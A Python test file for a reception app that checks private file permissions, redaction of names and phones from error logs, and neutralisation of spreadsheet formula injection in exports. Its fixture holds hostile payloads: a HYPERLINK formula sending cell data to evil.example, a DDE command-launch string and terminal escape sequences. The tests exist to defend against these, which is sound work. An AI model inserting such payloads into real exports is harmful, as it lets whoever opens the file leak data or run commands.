"""Issue 8 A3 and A4: files the app writes are its owner's only, a failed save logs no names or
phones, and exported cells never become formulas."""

from __future__ import annotations

import csv
import io
import logging
import os
import stat
from datetime import date, datetime, time

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import text
from sqlmodel import Session

from frontdesk import owners
from frontdesk import report as rp
from frontdesk.cli import main
from frontdesk.core.db import explain, make_engine, open_database, session_scope
from frontdesk.core.logs import setup_logging
from frontdesk.models import Encounter
from frontdesk.shifts import resolve_shift

DAY = date(2026, 3, 31)


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def open_umask():
    """A user whose umask lets everyone read (022): what the app writes must still be 0600."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def _flush_logs() -> None:
    for handler in logging.getLogger("frontdesk").handlers:
        handler.flush()


# --- the log ------------------------------------------------------------------------


def test_log_file_is_created_private(tmp_path, open_umask):
    path = setup_logging(path=tmp_path / "logs" / "frontdesk.log")
    logging.getLogger("frontdesk.test").info("hello")
    _flush_logs()
    assert mode(path) == 0o600
    assert mode(path.parent) == 0o700


def test_an_existing_readable_log_becomes_private(tmp_path, open_umask):
    path = tmp_path / "frontdesk.log"
    path.write_text("old line\n")
    os.chmod(path, 0o644)
    (tmp_path / "frontdesk.log.1").write_text("older\n")
    os.chmod(tmp_path / "frontdesk.log.1", 0o644)
    setup_logging(path=path)
    logging.getLogger("frontdesk.test").info("new line")
    _flush_logs()
    assert mode(path) == 0o600 and mode(tmp_path / "frontdesk.log.1") == 0o600
    assert "old line" in path.read_text() and "new line" in path.read_text()


def test_rotated_logs_stay_private(tmp_path, open_umask):
    path = setup_logging(path=tmp_path / "frontdesk.log", max_bytes=300)
    log = logging.getLogger("frontdesk.test")
    for i in range(40):
        log.info("line %d %s", i, "x" * 40)
    _flush_logs()
    files = sorted(tmp_path.glob("frontdesk.log*"))
    assert len(files) > 2  # it did rotate
    assert all(mode(f) == 0o600 for f in files), {f.name: oct(mode(f)) for f in files}


def test_a_failed_save_logs_no_names_or_phones(tmp_path):
    """The save fails in the database (a trigger refuses it); the log keeps the traceback
    the app writes, but never the SQL parameters: the owner's name and phone."""
    url = f"sqlite:///{tmp_path / 'fd.db'}"
    engine = open_database(url)
    with engine.begin() as conn:
        conn.execute(text("CREATE TRIGGER refuse BEFORE INSERT ON owner BEGIN SELECT RAISE(ABORT, 'refused'); END"))
    log_file = setup_logging(path=tmp_path / "fd.log")
    form = owners.OwnerForm(name="歐陽娜娜", gender="F", phone="13912345678", notes="住 3-2-1101")
    with pytest.raises(Exception) as info:
        with session_scope(engine) as session:
            owners.create_owner(session, form)
    exc = info.value
    # What the app's error path does (FrontDeskApp.show_error): one line and the traceback.
    logging.getLogger("frontdesk").error("worker failed: %s", explain(exc, url),
                                         exc_info=(type(exc), exc, exc.__traceback__))
    _flush_logs()
    logged = log_file.read_text(encoding="utf-8")
    assert "refused" in logged and "Traceback" in logged
    assert "歐陽娜娜" not in logged and "13912345678" not in logged and "1234 5678" not in logged
    assert "歐陽娜娜" not in str(exc) and "13912345678" not in str(exc)
    engine.dispose()


def test_every_engine_hides_bound_parameters(tmp_path):
    for url in (f"sqlite:///{tmp_path / 'x.db'}", "postgresql+psycopg://u@127.0.0.1:1/d"):
        assert make_engine(url).hide_parameters is True


# --- exports --------------------------------------------------------------------------


@pytest.fixture
def hostile_report(engine):
    """A shift whose party labels look like formulas, hold an ID number and a terminal escape."""
    with Session(engine) as session:
        arrived = datetime.combine(DAY, time(9)).astimezone()
        for label in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
                      "@SUM(A1:A9)", "訪客 11010519491231002X", "王\x1b[2J\x1b]0;pwned\x07小明", "-3"):
            session.add(Encounter(day=DAY, party_label=label, state="waiting", arrived_at=arrived))
        session.commit()
    with Session(engine) as session:
        return rp.gather(session, DAY, resolve_shift("all"), desk_name="前台",
                         now=datetime.combine(DAY, time(12)).astimezone())


def _all_values(path):
    book = load_workbook(path)
    return [(c.value, c.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for c in row
            if c.value is not None]


def test_xlsx_cells_are_text_never_formulas(hostile_report, tmp_path):
    path = rp.export(hostile_report, "xlsx", tmp_path / "r.xlsx")
    cells = _all_values(path)
    assert all(kind != "f" for _v, kind in cells), [c for c in cells if c[1] == "f"]
    values = [v for v, _k in cells]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert any(v == formula for v in values)  # the text as typed, stored as a string
    assert all(kind == "s" for v, kind in cells if isinstance(v, str) and v[:1] in "=+-@")
    assert not any("11010519491231002X" in str(v) for v in values)
    assert not any("\x1b" in str(v) for v in values)
    book = load_workbook(path)
    cell = next(c for s in book.worksheets for r in s.iter_rows() for c in r if c.value == formula)
    assert cell.quotePrefix  # Excel shows it as text and keeps it text when edited


def test_csv_cells_are_neutralised(hostile_report, tmp_path):
    path = rp.export(hostile_report, "csv", tmp_path / "r.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-3" and c[1:2] != "-")]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    assert "'+1+cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "'@SUM(A1:A9)" in cells
    assert "-3" in cells  # a number stays a number
    text_out = path.read_text(encoding="utf-8-sig")
    assert "11010519491231002X" not in text_out and "\x1b" not in text_out
    assert "110105********002X" in text_out and "王␛[2J␛]0;pwned␇小明" in text_out


def test_markdown_shows_text_as_text(hostile_report, tmp_path):
    out = rp.render_markdown(hostile_report)
    assert "11010519491231002X" not in out and "\x1b" not in out and "\x07" not in out
    assert "110105********002X" in out and "王␛[2J␛]0;pwned␇小明" in out


@pytest.mark.parametrize("fmt", ["md", "csv", "xlsx"])
def test_exports_are_private_also_over_an_existing_file(fmt, hostile_report, tmp_path, open_umask):
    fresh = rp.export(hostile_report, fmt, tmp_path / f"new.{fmt}")
    assert mode(fresh) == 0o600
    old = tmp_path / f"old.{fmt}"
    old.write_text("someone else's readable file")
    os.chmod(old, 0o644)
    assert mode(rp.export(hostile_report, fmt, old)) == 0o600
    assert old.read_bytes() != b"someone else's readable file"
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary left


def test_report_command_writes_a_private_file(engine, db_url, tmp_path, open_umask):
    out = tmp_path / "交班.xlsx"
    result = CliRunner().invoke(main, ["report", "--date", "2026-03-31", "--out", str(out), "--db", db_url])
    assert result.exit_code == 0, result.output
    assert mode(out) == 0o600
